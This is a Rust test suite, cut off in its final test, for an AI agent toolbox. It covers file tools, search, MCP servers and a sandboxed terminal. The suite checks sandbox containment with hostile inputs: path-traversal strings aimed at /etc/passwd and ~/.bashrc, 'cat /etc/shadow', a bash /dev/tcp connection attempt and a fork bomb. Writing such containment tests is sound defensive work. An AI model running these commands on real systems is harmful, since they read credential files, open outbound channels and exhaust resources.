//! The toolsets against real files, a real sandbox, a real MCP server and
//! the runtime talking real HTTP to testkit's fake model.

use std::path::{Path, PathBuf};
use std::sync::{Arc, Mutex, OnceLock};
use std::time::Duration;

use retinue_config::{McpServerConfig, TerminalConfig};
use retinue_core::run::{
    CancelToken, ChildHandle, ChildRuntime, ChildSpec, RunContext, RunInput, SinkError, ToolError,
    ToolExecutor, TranscriptSink,
};
use retinue_core::{ExitReason, Message};
use retinue_runtime::{ChatRuntime, RuntimeConfig};
use retinue_testkit::fake_model::{FakeModel, FakeToolCall, Reply, Usage};
use retinue_tools::terminal::Helper;
use retinue_tools::{Toolbox, ToolboxConfig};
use serde_json::{Value, json};

fn helper() -> Helper {
    Helper { program: PathBuf::from(env!("CARGO_BIN_EXE_retinue-sandbox")), prefix: Vec::new() }
}

fn toolbox() -> Toolbox {
    Toolbox::new(ToolboxConfig {
        terminal: TerminalConfig::default(),
        sandbox_helper: Some(helper()),
        mcp_servers: Vec::new(),
        protected: Default::default(),
        approvals: Default::default(),
    })
}

fn child(ws: &Path, toolsets: &[&str]) -> ChildHandle {
    ChildHandle {
        subagent_id: "sa-0-test".into(),
        session_id: "s-test".into(),
        toolsets: toolsets.iter().map(|t| (*t).to_owned()).collect(),
        workspace: Some(ws.to_path_buf()),
        depth: 1,
    }
}

fn ok(r: Result<String, ToolError>) -> Value {
    let text = r.expect("tool ok");
    serde_json::from_str(&text).unwrap_or(Value::String(text))
}

fn refused(r: Result<String, ToolError>) -> String {
    match r {
        Err(ToolError::Refused(t)) => t,
        other => panic!("expected a refusal, got {other:?}"),
    }
}

// ---------------------------------------------------------------- read

#[test]
fn read_file_numbers_lines_and_paginates() {
    let dir = tempfile::tempdir().expect("tmp");
    let text: String = (1..=30).map(|i| format!("line {i}\n")).collect();
    std::fs::write(dir.path().join("a.txt"), text).expect("write");
    let tb = toolbox();
    let c = child(dir.path(), &["read"]);
    let out = ok(tb.execute(&c, "read_file", &json!({"path": "a.txt", "offset": 5, "limit": 3})));
    assert_eq!(out["content"], "5|line 5\n6|line 6\n7|line 7");
    assert_eq!(out["total_lines"], 30);
    assert_eq!(out["truncated"], true);
    assert!(out["hint"].as_str().expect("hint").contains("offset=8"));
    let all = ok(tb.execute(&c, "read_file", &json!({"path": "a.txt"})));
    assert_eq!(all["truncated"], false);
    assert!(all["content"].as_str().expect("content").ends_with("30|line 30"));
    // An absolute path inside the workspace is the same file.
    let abs = std::fs::canonicalize(dir.path()).expect("canon").join("a.txt");
    let same = ok(tb.execute(&c, "read_file", &json!({"path": abs, "limit": 1})));
    assert_eq!(same["content"], "1|line 1");
}

#[test]
fn read_file_cuts_at_the_char_budget_on_a_line_boundary_with_next_offset() {
    let dir = tempfile::tempdir().expect("tmp");
    let line = "x".repeat(1500);
    let text: String = (0..200).map(|_| format!("{line}\n")).collect();
    std::fs::write(dir.path().join("wide.txt"), text).expect("write");
    let out = ok(toolbox().execute(
        &child(dir.path(), &["read"]),
        "read_file",
        &json!({"path": "wide.txt", "limit": 2000}),
    ));
    let content = out["content"].as_str().expect("content");
    assert!(content.chars().count() <= retinue_tools::read::MAX_READ_CHARS);
    let shown = content.lines().count() as u64;
    assert_eq!(out["next_offset"], shown + 1);
    assert_eq!(out["truncated_by"], "bytes");
    assert!(content.lines().all(|l| l.ends_with('x')), "cut on a line boundary");
}

#[test]
fn read_file_refuses_binary_fifos_devices_and_huge_lines_stay_bounded() {
    let dir = tempfile::tempdir().expect("tmp");
    std::fs::write(dir.path().join("bin"), [0u8, 1, 2, 3]).expect("write");
    let status =
        std::process::Command::new("mkfifo").arg(dir.path().join("fifo")).status().expect("mkfifo");
    assert!(status.success());
    std::os::unix::fs::symlink("/dev/zero", dir.path().join("zero")).expect("link");
    std::fs::write(dir.path().join("one-line"), "y".repeat(5_000_000)).expect("write");
    let tb = toolbox();
    let c = child(dir.path(), &["read"]);
    assert!(refused(tb.execute(&c, "read_file", &json!({"path": "bin"}))).contains("binary"));
    // A FIFO with no writer: refused at once, never blocking.
    assert!(
        refused(tb.execute(&c, "read_file", &json!({"path": "fifo"}))).contains("not a regular")
    );
    assert!(refused(tb.execute(&c, "read_file", &json!({"path": "zero"}))).contains("symbolic"));
    let out = ok(tb.execute(&c, "read_file", &json!({"path": "one-line"})));
    let content = out["content"].as_str().expect("content");
    assert!(content.ends_with("... [truncated]") && content.len() < 3000, "{}", content.len());
}

/// The path-escape table: every way out is a tool error the model reads,
/// and nothing outside is read.
#[test]
fn paths_that_leave_the_workspace_are_refused() {
    let outer = tempfile::tempdir().expect("tmp");
    let ws = outer.path().join("ws");
    std::fs::create_dir_all(ws.join("sub")).expect("mkdir");
    std::fs::write(outer.path().join("secret.txt"), "TOP SECRET").expect("write");
    std::os::unix::fs::symlink(outer.path().join("secret.txt"), ws.join("link-file"))
        .expect("link");
    std::os::unix::fs::symlink(outer.path(), ws.join("link-dir")).expect("link");
    std::os::unix::fs::symlink("sub", ws.join("inner-link")).expect("link");
    let tb = toolbox();
    let c = child(&ws, &["file"]);
    let secret = outer.path().join("secret.txt");
    let cases = [
        "../secret.txt".to_owned(),
        "sub/../../secret.txt".to_owned(),
        secret.to_string_lossy().into_owned(),
        "link-file".to_owned(),
        "link-dir/secret.txt".to_owned(),
        "inner-link/x".to_owned(),
        "/proc/self/root/etc/passwd".to_owned(),
        "/etc/passwd".to_owned(),
        "~/.bashrc".to_owned(),
        "a\u{0}b".to_owned(),
    ];
    for path in &cases {
        for (tool, args) in [
            ("read_file", json!({"path": path})),
            ("write_file", json!({"path": path, "content": "pwned"})),
            (
                "patch",
                json!({"mode": "replace", "path": path, "old_string": "TOP", "new_string": "X"}),
            ),
            ("search_files", json!({"pattern": "SECRET", "path": path})),
        ] {
            let r = tb.execute(&c, tool, &args);
            assert!(
                matches!(r, Err(ToolError::Refused(_) | ToolError::Failed(_))),
                "{tool} {path:?} → {r:?}"
            );
            if let Ok(text) = &r {
                assert!(!text.contains("TOP SECRET"));
            }
        }
    }
    assert_eq!(std::fs::read_to_string(&secret).expect("read"), "TOP SECRET");
    assert!(!ws.join("sub/x").exists());
}

#[test]
fn search_files_finds_content_and_files_honouring_gitignore() {
    let dir = tempfile::tempdir().expect("tmp");
    let p = dir.path();
    std::fs::create_dir_all(p.join("src/auth")).expect("mkdir");
    std::fs::create_dir_all(p.join("target")).expect("mkdir");
    std::fs::write(p.join(".gitignore"), "target/\n").expect("write");
    std::fs::write(p.join("src/auth/login.rs"), "fn login() {}\nfn check_token() {}\n")
        .expect("write");
    std::fs::write(p.join("src/main.rs"), "fn main() { login(); }\n").expect("write");
    std::fs::write(p.join("target/gen.rs"), "fn login() {}\n").expect("write");
    let tb = toolbox();
    let c = child(p, &["read"]);
    let out = ok(tb.execute(&c, "search_files", &json!({"pattern": "login"})));
    assert_eq!(out["total_count"], 2, "{out}");
    let paths: Vec<&str> = out["matches"]
        .as_array()
        .expect("matches")
        .iter()
        .filter_map(|m| m["path"].as_str())
        .collect();
    assert_eq!(paths, ["src/auth/login.rs", "src/main.rs"]);
    assert_eq!(out["matches"][0]["line"], 1);
    let files = ok(tb.execute(&c, "search_files", &json!({"pattern": "*.rs", "target": "files"})));
    let mut names: Vec<&str> =
        files["files"].as_array().expect("files").iter().filter_map(Value::as_str).collect();
    names.sort_unstable();
    assert_eq!(names, ["src/auth/login.rs", "src/main.rs"]);
    let counts = ok(tb.execute(
        &c,
        "search_files",
        &json!({"pattern": "fn ", "output_mode": "count", "path": "src"}),
    ));
    assert_eq!(counts["counts"]["src/auth/login.rs"], 2);
    let bad = tb.execute(&c, "search_files", &json!({"pattern": "("}));
    assert!(matches!(bad, Err(ToolError::InvalidArguments(t)) if t.contains("invalid regex")));
}

// ---------------------------------------------------------------- file

#[test]
fn write_file_and_patch_edit_inside_the_workspace() {
    let dir = tempfile::tempdir().expect("tmp");
    let tb = toolbox();
    let c = child(dir.path(), &["file"]);
    let out = ok(tb.execute(
        &c,
        "write_file",
        &json!({"path": "new/deep/a.txt", "content": "alpha\nbeta\nalpha\n"}),
    ));
    assert_eq!(out["bytes_written"], 17);
    assert_eq!(out["dirs_created"], true);
    let file = dir.path().join("new/deep/a.txt");
    let non_unique = tb.execute(
        &c,
        "patch",
        &json!({"mode": "replace", "path": "new/deep/a.txt", "old_string": "alpha", "new_string": "A"}),
    );
    assert!(matches!(non_unique, Err(ToolError::Failed(t)) if t.contains("appears 2 times")));
    let missing = tb.execute(
        &c,
        "patch",
        &json!({"mode": "replace", "path": "new/deep/a.txt", "old_string": "gamma", "new_string": "G"}),
    );
    assert!(matches!(missing, Err(ToolError::Failed(t)) if t.contains("Could not find")));
    let empty = tb.execute(
        &c,
        "patch",
        &json!({"mode": "replace", "path": "new/deep/a.txt", "old_string": "", "new_string": "G"}),
    );
    assert!(matches!(empty, Err(ToolError::InvalidArguments(t)) if t.contains("empty")));
    assert_eq!(std::fs::read_to_string(&file).expect("read"), "alpha\nbeta\nalpha\n");
    let done = ok(tb.execute(
        &c,
        "patch",
        &json!({"mode": "replace", "path": "new/deep/a.txt", "old_string": "beta", "new_string": "BETA"}),
    ));
    assert_eq!(done["success"], true);
    let diff = done["diff"].as_str().expect("diff");
    assert!(diff.contains("-beta\n+BETA"), "{diff}");
    assert!(diff.contains("--- a/new/deep/a.txt"));
    let all = ok(tb.execute(
        &c,
        "patch",
        &json!({"path": "new/deep/a.txt", "old_string": "alpha", "new_string": "A", "replace_all": true, "mode": "replace"}),
    ));
    assert_eq!(all["success"], true);
    assert_eq!(std::fs::read_to_string(&file).expect("read"), "A\nBETA\nA\n");
    let v4a = tb.execute(&c, "patch", &json!({"mode": "patch", "patch": "*** Begin Patch"}));
    assert!(matches!(v4a, Err(ToolError::InvalidArguments(t)) if t.contains("not supported")));
}

#[test]
fn file_tools_are_refused_under_read_and_bad_arguments_are_named() {
    let dir = tempfile::tempdir().expect("tmp");
    let tb = toolbox();
    let c = child(dir.path(), &["read"]);
    let names: Vec<String> = tb
        .definitions(&c)
        .iter()
        .filter_map(|d| d["function"]["name"].as_str().map(str::to_owned))
        .collect();
    assert_eq!(names, ["read_file", "search_files"]);
    let r = tb.execute(&c, "write_file", &json!({"path": "x", "content": "y"}));
    assert!(refused(r).contains("not in this child's toolsets"));
    assert!(!dir.path().join("x").exists());
    let r = tb.execute(&c, "terminal", &json!({"command": "touch x"}));
    assert!(refused(r).contains("not in this child's toolsets"));
    for (tool, args, want) in [
        ("read_file", json!({}), "missing required argument `path`"),
        ("read_file", json!({"path": 7}), "`path` must be a string"),
        ("read_file", json!({"path": "a", "offset": -1}), "`offset` must be a whole number"),
        ("read_file", json!({"path": "x".repeat(5 << 20)}), "at most"),
        ("search_files", json!({"pattern": "a", "target": "web"}), "`target` must be"),
    ] {
        match tb.execute(&c, tool, &args) {
            Err(ToolError::InvalidArguments(t)) => assert!(t.contains(want), "{t}"),
            other => panic!("{tool} {args}: {other:?}"),
        }
    }
    assert!(matches!(tb.execute(&c, "no_such_tool", &json!({})), Err(ToolError::Unknown { .. })));
    let none = ChildHandle { workspace: None, ..c };
    assert!(
        refused(tb.execute(&none, "read_file", &json!({"path": "a"}))).contains("no workspace")
    );
}

// ---------------------------------------------------------------- terminal

/// Whether this machine can host the sandbox. Where the kernel lacks user
/// namespaces or Landlock the terminal must refuse, clearly (checked, then
/// the test ends); any other setup failure is a bug and fails the test.
fn sandbox_ready() -> bool {
    match toolbox().sandbox_status().map_err(|e| e.to_string()) {
        Ok(_) => true,
        Err(why)
            if why.contains("user namespaces are unavailable")
                || why.contains("Landlock is not available") =>
        {
            // CI sets RETINUE_REQUIRE_SANDBOX: there a missing sandbox fails.
            assert!(
                std::env::var_os("RETINUE_REQUIRE_SANDBOX").is_none(),
                "RETINUE_REQUIRE_SANDBOX is set but the sandbox is unavailable: {why}"
            );
            eprintln!(
                "note: SKIPPED: no sandbox on this machine ({why}); checking the refusal instead"
            );
            let dir = tempfile::tempdir().expect("tmp");
            let r = toolbox().execute(
                &child(dir.path(), &["terminal"]),
                "terminal",
                &json!({"command": "true"}),
            );
            assert!(
                matches!(&r, Err(ToolError::Refused(t)) if t.contains("sandbox: off")),
                "{r:?}"
            );
            false
        }
        Err(why) => panic!("the sandbox could not be set up: {why}"),
    }
}

fn term(ws: &Path, args: Value) -> Value {
    ok(toolbox().execute(&child(ws, &["terminal"]), "terminal", &args))
}

#[test]
fn terminal_runs_in_the_workspace_with_a_scrubbed_environment() {
    if !sandbox_ready() {
        return;
    }
    let dir = tempfile::tempdir().expect("tmp");
    std::fs::create_dir(dir.path().join("sub")).expect("mkdir");
    let out =
        term(dir.path(), json!({"command": "echo hi > made.txt; cat made.txt; pwd; env | sort"}));
    assert_eq!(out["exit_code"], 0, "{out}");
    let text = out["output"].as_str().expect("output");
    assert!(text.starts_with("hi\n"), "{text}");
    assert!(dir.path().join("made.txt").exists());
    let keys: Vec<&str> = text.lines().skip(2).filter_map(|l| l.split('=').next()).collect();
    for k in &keys {
        assert!(
            [
                "PATH", "TERM", "HOME", "TMPDIR", "LANG", "LC_ALL", "TZ", "PWD", "SHLVL", "_",
                "OLDPWD"
            ]
            .contains(k),
            "unexpected variable {k} in {text}"
        );
    }
    let sub = term(dir.path(), json!({"command": "pwd", "workdir": "sub"}));
    assert!(sub["output"].as_str().expect("out").ends_with("/sub"));
    // The host's secrets stay unreadable, root or not.
    let shadow = term(dir.path(), json!({"command": "cat /etc/shadow /etc/gshadow"}));
    assert_ne!(shadow["exit_code"], 0, "{shadow}");
    assert!(!shadow["output"].as_str().expect("out").contains("root:"), "{shadow}");
    let code = term(dir.path(), json!({"command": "exit 7"}));
    assert_eq!(code["exit_code"], 7);
    let escape = toolbox().execute(
        &child(dir.path(), &["terminal"]),
        "terminal",
        &json!({"command": "pwd", "workdir": "../"}),
    );
    assert!(matches!(escape, Err(ToolError::Refused(_))));
}

#[test]
fn terminal_writes_outside_and_connections_fail() {
    if !sandbox_ready() {
        return;
    }
    let outer = tempfile::tempdir().expect("tmp");
    let ws = outer.path().join("ws");
    std::fs::create_dir(&ws).expect("mkdir");
    // Beside the workspace in the host's /tmp: the sandbox's /tmp is its
    // own tmpfs, so the write lands there and never on the host.
    let target = outer.path().join("outside.txt");
    term(&ws, json!({"command": format!("echo pwned > {}", target.display())}));
    assert!(!target.exists(), "a write outside the workspace must not reach the host");
    // Anywhere else (here: the build's own temp dir): refused.
    let elsewhere = tempfile::tempdir_in(env!("CARGO_TARGET_TMPDIR")).expect("tmp");
    let target = elsewhere.path().join("outside.txt");
    let out = term(&ws, json!({"command": format!("echo pwned > {}", target.display())}));
    assert_ne!(out["exit_code"], 0, "{out}");
    assert!(!target.exists(), "a write outside the workspace must fail");
    let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("bind");
    listener.set_nonblocking(true).expect("nonblocking");
    let port = listener.local_addr().expect("addr").port();
    let out = term(
        &ws,
        json!({"command": format!("bash -c 'echo hi > /dev/tcp/127.0.0.1/{port}' && echo CONNECTED")}),
    );
    assert!(!out["output"].as_str().expect("out").contains("CONNECTED"), "{out}");
    std::thread::sleep(Duration::from_millis(100));
    assert!(listener.accept().is_err(), "nothing may reach a local port");
}

#[test]
fn terminal_timeout_kills_the_whole_group() {
    if !sandbox_ready() {
        return;
    }
    let dir = tempfile::tempdir().expect("tmp");
    let marker = "61.4242";
    let out = term(
        dir.path(),
        json!({"command": format!("sleep {marker} & sleep {marker}"), "timeout": 2}),
    );
    assert_eq!(out["exit_code"], 124, "{out}");
    assert!(out["error"].as_str().expect("error").contains("timed out"));
    std::thread::sleep(Duration::from_millis(200));
    let left: Vec<String> = std::fs::read_dir("/proc")
        .expect("proc")
        .flatten()
        .filter_map(|e| std::fs::read(e.path().join("cmdline")).ok())
        .map(|c| String::from_utf8_lossy(&c).replace('\0', " "))
        .filter(|c| c.contains(marker))
        .collect();
    assert!(left.is_empty(), "left behind: {left:?}");
}

#[test]
fn terminal_output_is_capped_head_and_tail_and_a_fork_bomb_ends() {
    if !sandbox_ready() {
        return;
    }
    let dir = tempfile::tempdir().expect("tmp");
    let out = term(dir.path(), json!({"command": "seq 1 200000"}));
    let text = out["output"].as_str().expect("out");
    assert!(text.starts_with("1\n2\n"));
    assert!(text.ends_with("200000"));
    assert!(text.contains("[OUTPUT TRUNCATED"));
    assert!(text.chars().count() < retinue_tools::terminal::MAX_OUTPUT_CHARS + 200);
    // Starting processes without end: the command is held to 256 at once
    // (a pids cgroup, else RLIMIT_NPROC, else the watch kills it), and the
    // PID namespace takes them all when it ends.
    let spawned = term(
        dir.path(),
        json!({"command": "for i in $(seq 1 400); do sleep 61.3131 & done; echo looped; wait", "timeout": 5}),
    );
    // A cap the kernel holds makes the shell fail to fork (`Cannot fork`,
    // exit 2); the watch kills the command (137).
    let code = spawned["exit_code"].as_i64().expect("code");
    assert!(
        code != 0 && !spawned["output"].as_str().expect("out").contains("looped") || code == 137,
        "{spawned}"
    );
    std::thread::sleep(Duration::from_millis(300));
    let left = std::fs::read_dir("/proc")
        .expect("proc")
        .flatten()
        .filter_map(|e| std::fs::read(e.path().join("cmdline")).ok())
        .any(|c| String::from_utf8_lossy(&c).contains("61.3131"));
    assert!(!left, "processes outlived a killed command");
    // A real fork bomb only where the kernel holds the cap (the watch
    // alone could let a bomb starve this host's other work first).
    let status = toolbox().sandbox_status().expect("sandbox");
    if status.contains("\"process_cap\":\"watch\"") {
        eprintln!("note: no hard process cap here ({status}); the fork bomb is not run");
    } else {
        let bomb = term(
            dir.path(),
            json!({"command": "b() { b | b & }; b 2>/dev/null; sleep 2; echo survived", "timeout": 10}),
        );
        assert!(bomb.get("exit_code").is_some(), "{bomb}");
        let after = term(dir.path(), json!({"command": "echo fine"}));
        assert_eq!(after["output"], "fine", "the host still starts processes");
    }
    // No pids cgroup of a finished helper is left behind (other tests'
    // running helpers aside).
    let stale = || {
        std::fs::read_dir("/sys/fs/cgroup/pids")
            .map(|d| {
                d.flatten()
                    .filter_map(|e| {
                        e.file_name().to_string_lossy().strip_prefix("retinue-").map(str::to_owned)
                    })
                    .filter(|pid| !Path::new("/proc").join(pid).exists())
                    .count()
            })
            .unwrap_or(0)
    };
    let mut left = stale();
    for _ in 0..30 {
        if left == 0 {
            break;
        }
        std::thread::sleep(Duration::from_millis(100));
        left = stale();
    }
    assert_eq!(left, 0, "a pids cgroup was left behind");
    let big = toolbox().execute(
        &child(dir.path(), &["terminal"]),
        "terminal",
        &json!({"command": "true", "timeout": 100_000}),
    );
    assert!(matches!(big, Err(ToolError::InvalidArguments(t)) if t.contains("maximum")));
}

#[test]
fn without_a_helper_the_terminal_is_refused_unless_sandbox_is_off() {
    let dir = tempfile::tempdir().expect("tmp");
    let tb = Toolbox::new(ToolboxConfig::default());
    let c = child(dir.path(), &["terminal"]);
    let text = refused(tb.execute(&c, "terminal", &json!({"command": "true"})));
    assert!(text.contains("sandbox cannot be set up") && text.contains("sandbox: off"), "{text}");
    let off = Toolbox::new(ToolboxConfig {
        terminal: TerminalConfig { sandbox: false, ..TerminalConfig::default() },
        ..ToolboxConfig::default()
    });
    let out = ok(off.execute(&c, "terminal", &json!({"command": "echo ran"})));
    assert_eq!(out["output"], "ran");
    assert!(out["warning"].as_str().expect("warning").contains("without a sandbox"));
}

// ---------------------------------------------------------------- MCP

fn fake_mcp() -> PathBuf {
    static BIN: OnceLock<PathBuf> = OnceLock::new();
    BIN.get_or_init(|| {
        let exe = std::env::current_exe().expect("exe");
        let dir = exe.parent().and_then(Path::parent).expect("target dir").to_path_buf();
        let bin = dir.join("retinue-fake-mcp");
        if !bin.exists() {
            let cargo = std::env::var("CARGO").unwrap_or_else(|_| "cargo".into());
            let status = std::process::Command::new(cargo)
                .args(["build", "-p", "retinue-testkit", "--bin", "retinue-fake-mcp"])
                .status()
                .expect("cargo build");
            assert!(status.success());
        }
        bin
    })
    .clone()
}

fn mcp_box(servers: Vec<McpServerConfig>) -> Toolbox {
    Toolbox::new(ToolboxConfig { mcp_servers: servers, ..ToolboxConfig::default() })
}

fn fake_server(name: &str) -> McpServerConfig {
    McpServerConfig {
        name: name.into(),
        command: Some(fake_mcp().to_string_lossy().into_owned()),
        timeout_seconds: 20.0,
        ..McpServerConfig::default()
    }
}

#[test]
fn an_mcp_server_offers_its_tools_and_a_crash_leaves_them_unavailable() {
    let dir = tempfile::tempdir().expect("tmp");
    let mut config = fake_server("fake.srv");
    config.exclude = vec!["fail".into(), "big".into(), "wipe".into()];
    let tb = mcp_box(vec![config]);
    assert_eq!(tb.mcp_toolsets(), ["mcp-fake.srv"]);
    let c = child(dir.path(), &["mcp-fake.srv"]);
    let names: Vec<String> = tb
        .definitions(&c)
        .iter()
        .filter_map(|d| d["function"]["name"].as_str().map(str::to_owned))
        .collect();
    assert_eq!(names, ["mcp__fake_srv__echo", "mcp__fake_srv__add", "mcp__fake_srv__crash"]);
    assert_eq!(
        tb.execute(&c, "mcp__fake_srv__echo", &json!({"text": "hello"})).expect("echo"),
        "hello"
    );
    assert_eq!(tb.execute(&c, "mcp__fake_srv__add", &json!({"a": 2, "b": 3})).expect("add"), "5");
    // Not offered to a child without the toolset.
    let other = child(dir.path(), &["read"]);
    assert!(matches!(
        tb.execute(&other, "mcp__fake_srv__echo", &json!({"text": "x"})),
        Err(ToolError::Unknown { .. })
    ));
    let crash = tb.execute(&c, "mcp__fake_srv__crash", &json!({}));
    assert!(matches!(&crash, Err(ToolError::Failed(t)) if t.contains("fake.srv")), "{crash:?}");
    let after = tb.execute(&c, "mcp__fake_srv__echo", &json!({"text": "again"}));
    assert!(
        matches!(&after, Err(ToolError::Failed(t)) if t.contains("unavailable") || t.contains("stopped")),
        "{after:?}"
    );
}

#[test]
fn an_mcp_server_that_cannot_start_gives_a_clear_tool_result() {
    let dir = tempfile::tempdir().expect("tmp");
    let tb = mcp_box(vec![McpServerConfig {
        name: "gone".into(),
        command: Some("/nonexistent/mcp-server".into()),
        timeout_seconds: 5.0,
        ..McpServerConfig::default()
    }]);
    let c = child(dir.path(), &["mcp-gone"]);
    assert!(tb.definitions(&c).is_empty());
    let r = tb.execute(&c, "mcp__gone__anything", &json!({}));
    assert!(
        matches!(&r, Err(ToolError::Failed(t)) if t.contains("`gone` is unavailable")),
        "{r:?}"
    );
}

// ---------------------------------------------------------------- runtime

#[derive(Default)]
struct Transcript(Mutex<Vec<Message>>);

impl TranscriptSink for Transcript {
    fn append(&self, message: &Message) -> Result<(), SinkError> {
        self.0.lock().expect("lock").push(message.clone());
        Ok(())
    }
}

fn run_child(
    server: &FakeModel,
    ws: &Path,
    toolsets: &[&str],
    stream: bool,
) -> (Vec<Message>, ExitReason) {
    let mut config = RuntimeConfig::new(server.base_url(), "fake/model").with_api_key("sk-test");
    config.stream = stream;
    config.request_timeout = Duration::from_secs(20);
    let rt = ChatRuntime::new(config, Arc::new(toolbox())).expect("runtime");
    let spec = ChildSpec {
        subagent_id: "sa-0-run".into(),
        session_id: "s-run".into(),
        toolsets: toolsets.iter().map(|t| (*t).to_owned()).collect(),
        workspace: Some(ws.to_path_buf()),
        depth: 1,
        ..ChildSpec::default()
    };
    let handle = rt.build(&spec).expect("build");
    let sink = Transcript::default();
    let input =
        RunInput { user_message: "survey".into(), history: Vec::new(), system_prompt: None };
    let out = rt.run(&handle, &input, &sink, &RunContext::default());
    let all = sink.0.lock().expect("lock").clone();
    (all, out.exit_reason)
}

#[test]
fn a_child_reads_a_file_through_the_model_loop_plain_and_streamed() {
    for stream in [false, true] {
        let dir = tempfile::tempdir().expect("tmp");
        std::fs::write(dir.path().join("notes.md"), "the key fact\n").expect("write");
        let server = FakeModel::start();
        server.push(
            Reply::tool_calls(vec![
                FakeToolCall::new("c1", "read_file", &json!({"path": "notes.md"})),
                FakeToolCall::new("c2", "search_files", &json!({"pattern": "key"})),
                FakeToolCall::new("c3", "write_file", &json!({"path": "x", "content": "y"})),
            ])
            .with_usage(Usage::new(10, 5)),
        );
        server.push(Reply::text("done: the key fact").with_usage(Usage::new(20, 5)));
        let (rows, exit) = run_child(&server, dir.path(), &["read"], stream);
        assert_eq!(exit, ExitReason::Completed);
        let roles: Vec<&str> = rows.iter().map(|m| m.role.as_str()).collect();
        assert_eq!(roles, ["assistant", "tool", "tool", "tool", "assistant"]);
        // Results keep the calls' order and carry their ids and names.
        let ids: Vec<&str> = rows[1..4].iter().filter_map(|m| m.tool_call_id.as_deref()).collect();
        assert_eq!(ids, ["c1", "c2", "c3"]);
        assert_eq!(rows[1].tool_name.as_deref(), Some("read_file"));
        assert!(rows[1].content.as_deref().expect("c").contains("1|the key fact"));
        assert!(rows[3].content.as_deref().expect("c").contains("unknown tool `write_file`"));
        assert!(!dir.path().join("x").exists());
        let calls: Value =
            serde_json::from_str(rows[0].tool_calls.as_deref().expect("calls")).expect("json");
        assert_eq!(calls.as_array().expect("array").len(), 3);
        // The second request carried every result right after its call.
        let second = &server.requests()[1];
        let msgs = second.messages();
        let tail: Vec<&str> = msgs.iter().filter_map(|m| m["role"].as_str()).collect();
        assert_eq!(tail, ["user", "assistant", "tool", "tool", "tool"]);
        let reqs = server.requests();
        let offered: Vec<&str> = reqs[0].body["tools"]
            .as_array()
            .expect("tools")
            .iter()
            .filter_map(|t| t["function"]["name"].as_str())
            .collect();
        assert_eq!(offered, ["read_file", "search_files"]);
    }
}

#[test]
fn a_tool_call_loop_ends_at_max_iterations() {
    let dir = tempfile::tempdir().expect("tmp");
    std::fs::write(dir.path().join("a"), "a\n").expect("write");
    let server = FakeModel::start();
    server.set_default(Reply::tool_call("loop", "read_file", json!({"path": "a"})));
    let mut config = RuntimeConfig::new(server.base_url(), "fake/model").with_api_key("sk-test");
    config.max_iterations = 4;
    let rt = ChatRuntime::new(config, Arc::new(toolbox())).expect("runtime");
    let spec = ChildSpec {
        subagent_id: "sa-0-loop".into(),
        session_id: "s-loop".into(),
        toolsets: vec!["read".into()],
        workspace: Some(dir.path().to_path_buf()),
        ..ChildSpec::default()
    };
    let handle = rt.build(&spec).expect("build");
    let sink = Transcript::default();
    let input = RunInput { user_message: "go".into(), history: Vec::new(), system_prompt: None };
    let out = rt.run(&handle, &input, &sink, &RunContext::default());
    assert_eq!(out.exit_reason, ExitReason::MaxIterations);
    assert_eq!(server.request_count(), 4);
    // The transcript stays valid: every call has its result.
    let rows = sink.0.lock().expect("lock").clone();
    let calls = rows.iter().filter(|m| m.role == "assistant").count();
    let results = rows.iter().filter(|m| m.role == "tool").count();
    assert_eq!(calls, results);
}

// ---------------------------------------------------------------- hostile inputs (review)

#[test]
fn a_patch_that_would_explode_is_refused_and_writes_are_atomic() {
    let dir = tempfile::tempdir().expect("tmp");
    let tb = toolbox();
    let c = child(dir.path(), &["file"]);
    std::fs::write(dir.path().join("a.txt"), "a".repeat(100_000)).expect("write");
    let r = tb.execute(
        &c,
        "patch",
        &json!({"mode": "replace", "path": "a.txt", "old_string": "a", "new_string": "b".repeat(1 << 20), "replace_all": true}),
    );
    assert!(matches!(&r, Err(ToolError::Refused(t)) if t.contains("larger than")), "{r:?}");
    assert_eq!(std::fs::metadata(dir.path().join("a.txt")).expect("meta").len(), 100_000);
    // Permissions survive an edit; no temporary file is left behind.
    use std::os::unix::fs::PermissionsExt;
    std::fs::write(dir.path().join("run.sh"), "echo one\n").expect("write");
    std::fs::set_permissions(dir.path().join("run.sh"), std::fs::Permissions::from_mode(0o750))
        .expect("chmod");
    ok(tb.execute(
        &c,
        "patch",
        &json!({"mode": "replace", "path": "run.sh", "old_string": "one", "new_string": "two"}),
    ));
    let meta = std::fs::metadata(dir.path().join("run.sh")).expect("meta");
    assert_eq!(meta.permissions().mode() & 0o777, 0o750);
    let names: Vec<String> = std::fs::read_dir(dir.path())
        .expect("dir")
        .map(|e| e.expect("entry").file_name().to_string_lossy().into_owned())
        .collect();
    assert!(names.iter().all(|n| !n.contains("retinue-")), "{names:?}");
    // A write through a symlink is refused, the link's target untouched.
    let outside = tempfile::tempdir().expect("outside");
    std::fs::write(outside.path().join("t"), "keep").expect("write");
    std::os::unix::fs::symlink(outside.path().join("t"), dir.path().join("link")).expect("link");
    assert!(tb.execute(&c, "write_file", &json!({"path": "link", "content": "x"})).is_err());
    assert_eq!(std::fs::read_to_string(outside.path().join("t")).expect("read"), "keep");
}

#[test]
fn hostile_ignore_files_never_block_or_leak_and_nested_ones_count() {
    let dir = tempfile::tempdir().expect("tmp");
    let p = dir.path();
    std::fs::create_dir_all(p.join("a/b")).expect("mkdir");
    std::fs::write(p.join("a/.gitignore"), "skip.txt\n").expect("write");
    std::fs::write(p.join("a/skip.txt"), "needle\n").expect("write");
    std::fs::write(p.join("a/b/keep.txt"), "needle\n").expect("write");
    // A FIFO as a .gitignore (reading it would block) and one that is a
    // link to /dev/zero (reading it would never end).
    assert!(
        std::process::Command::new("mkfifo")
            .arg(p.join("a/b/.gitignore"))
            .status()
            .expect("mkfifo")
            .success()
    );
    std::os::unix::fs::symlink("/dev/zero", p.join(".ignore")).expect("link");
    let out =
        ok(toolbox().execute(&child(p, &["read"]), "search_files", &json!({"pattern": "needle"})));
    assert_eq!(out["total_count"], 1, "{out}");
    assert_eq!(out["matches"][0]["path"], "a/b/keep.txt");
}

#[test]
fn escaped_processes_die_with_the_command_and_host_sockets_are_out_of_reach() {
    if !sandbox_ready() {
        return;
    }
    let dir = tempfile::tempdir().expect("tmp");
    let marker = "61.7777";
    let out = term(dir.path(), json!({"command": format!("setsid sleep {marker} & echo started")}));
    assert_eq!(out["output"], "started");
    std::thread::sleep(Duration::from_millis(300));
    let left = std::fs::read_dir("/proc")
        .expect("proc")
        .flatten()
        .filter_map(|e| std::fs::read(e.path().join("cmdline")).ok())
        .any(|c| String::from_utf8_lossy(&c).contains(marker));
